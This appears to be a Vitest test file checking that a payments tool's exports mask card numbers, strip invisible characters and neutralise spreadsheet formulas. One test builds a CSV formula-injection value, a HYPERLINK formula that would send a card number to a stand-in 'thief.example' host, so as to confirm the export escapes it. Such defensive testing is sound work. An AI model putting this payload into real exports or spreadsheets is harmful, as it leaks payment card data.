import { expect, test } from 'vitest'
import { defaultAssumptions } from '../../../contract/domain/assumptions.ts'
import { hostileTexts } from '../../../contract/testing/hostile-texts.ts'
import { sampleSale } from '../../../contract/samples.ts'
import { fileNameOf, formats, historyCsv } from './export-formats.ts'
import { beginSession } from '../../../cli/testing-session.ts'

test.each(Object.entries(formats()))(
  'no card number of a title is in the name of a file: %s',
  (_, format) => {
    const name = fileNameOf(format, `Venta con ${sampleSale.card_number}`)
    expect(name).toBe(`venta-con-411111-1111.${format.extension}`)
  },
)

/** A table keeps tabs and joiners of letters, as a spreadsheet shows them. */
const documents = Object.entries(formats()).filter(([id]) => id !== 'csv')

test.each(documents)('no sign that is not seen is in an export as %s', async (_, { write }) => {
  const { send, exchanges } = beginSession()
  for (const encoding of ['form', 'json'] as const) {
    for (const name of hostileTexts) {
      await send('payments.sale', { ...sampleSale, customer_name: name, order_id: name }, encoding)
    }
  }
  const options = { title: 'x', lang: 'es', assumptions: defaultAssumptions } as const
  const { text } = write(exchanges(), options)
  expect(text.replaceAll('\n', '')).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u)
})

/** The rows of a table whose cells have neither commas nor quotes. */
const rowsOf = (text: string) =>
  text
    .slice(1)
    .trimEnd()
    .split('\r\n')
    .map((line) => line.split(','))

test('a request is a row of the table, with its order and its answer', async () => {
  const { send, exchanges } = beginSession()
  await send('payments.sale', sampleSale)
  const [header, row = [], ...others] = rowsOf(historyCsv(exchanges(), 'en').text)
  expect(header?.slice(0, 4)).toEqual(['Instant', 'Operation', 'Route', 'Method'])
  expect(row).toHaveLength(header?.length ?? 0)
  expect(row).toEqual(expect.arrayContaining(['Sale', 'POST', sampleSale.order_id, '200']))
  expect(others).toEqual([])
})

test('the table has no card number, code or secret, and no formula', async () => {
  const { send, exchanges } = beginSession()
  const { card_number: card, card_cvv: code } = sampleSale
  const order_id = `=HYPERLINK("https://thief.example/${card}")`
  await send('payments.sale', { ...sampleSale, order_id, customer_name: `cvv=${code} ${card}` })
  const { text } = historyCsv(exchanges(), 'es')
  expect(text).not.toContain(card)
  expect(text).not.toMatch(/cvv=\d/)
  expect(text).not.toMatch(/(^|,)"?=/m)
  expect(text).toContain(`'=HYPERLINK`)
})
